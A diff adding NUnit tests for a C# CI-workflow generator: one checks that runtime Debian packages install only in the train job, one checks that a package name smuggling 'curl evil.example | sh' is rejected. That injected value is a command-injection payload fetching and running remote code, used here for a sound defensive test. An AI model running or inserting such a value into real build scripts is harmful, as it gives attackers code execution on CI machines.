@@ -60,6 +60,45 @@ public sealed class GenerateCiTests : SandboxTests
         Assert.That(workflow, Does.Not.Contain("KUBECONFIG").And.Not.Contain("GOOGLE_SERVICE_ACCOUNT_KEY"), "no cluster credential: the controller applies the commit");
     }
 
+    [Test]
+    public async Task Should_InstallTheRuntimePackagesBeforeTrainOnly_AndNameOnlyTheChosenFileInTheDescription()
+    {
+        var run = await Sandbox.RunAsync(new RuntimePackagesCiBuild(), "GenerateCI");
+        var help = await Sandbox.RunAsync(new RuntimePackagesCiBuild(), "--help");
+
+        var workflow = Sandbox.Read(".github/workflows/pipeline.yml");
+        var trainJob = workflow[workflow.IndexOf("\n  train:", StringComparison.Ordinal)..workflow.IndexOf("\n  containerize:", StringComparison.Ordinal)];
+        Assert.That(run.ExitCode, Is.Zero, run.Output);
+        Assert.That(trainJob, Does.Contain("name: Install the model's runtime packages").And.Contain("apt-get install -y -qq --no-install-recommends python3-sklearn python3-joblib"));
+        Assert.That(workflow.Split("Install the model's runtime packages").Length - 1, Is.EqualTo(1), "the image, push and deploy jobs do not run the model's code");
+        Assert.That(Sandbox.Exists(".gitlab-ci.yml"), Is.False);
+        Assert.That(help.Output, Does.Match(@"GenerateCI\s+Write \.github/workflows/pipeline\.yml from the target graph"));
+    }
+
+    [Test]
+    public async Task Should_RefuseARuntimePackageThatIsNotADebianName()
+    {
+        var run = await Sandbox.RunAsync(new RuntimePackagesCiBuild { Packages = ["python3-sklearn; curl evil.example | sh"] }, "GenerateCI");
+
+        Assert.That(run.ExitCode, Is.EqualTo(1));
+        Assert.That(run.Output, Does.Contain("ContainerSettings.RuntimePackages").And.Contain("is not a Debian package name"));
+        Assert.That(Sandbox.Exists(".github/workflows/pipeline.yml"), Is.False);
+    }
+
+    /// <summary>A build whose image needs Debian packages at run time, on GitHub only.</summary>
+    private sealed class RuntimePackagesCiBuild : PipelineBuild, Pipeline.Components.Deploy.IDeploy, IGenerateCI
+    {
+        public IReadOnlyList<string> Packages { get; init; } = ["python3-sklearn", "python3-joblib"];
+
+        Pipeline.Components.Containers.ContainerSettings Pipeline.Components.Containers.IContainerize.ConfigureContainer(Pipeline.Components.Containers.ContainerSettings settings) =>
+            settings with { RuntimePackages = Packages };
+
+        CiPipeline IGenerateCI.ConfigureCI(CiPipeline pipeline) => (pipeline with { Dialects = CiDialects.GitHub })
+            .Job<Pipeline.Components.Train.ITrain>(x => x.Train)
+            .Job<Pipeline.Components.Containers.IContainerize>(x => x.Containerize, job => job with { Condition = CiCondition.MainBranch })
+            .Job<Pipeline.Components.Deploy.IDeploy>(x => x.Deploy, job => job with { Condition = CiCondition.MainBranch });
+    }
+
     /// <summary>A GitOps build's CI: Deploy commits to the configuration repository with its token, and needs nothing of the cluster.</summary>
     private sealed class GitOpsCiBuild : PipelineBuild, Pipeline.Components.Deploy.IKubernetesDeploy, IGenerateCI
     {
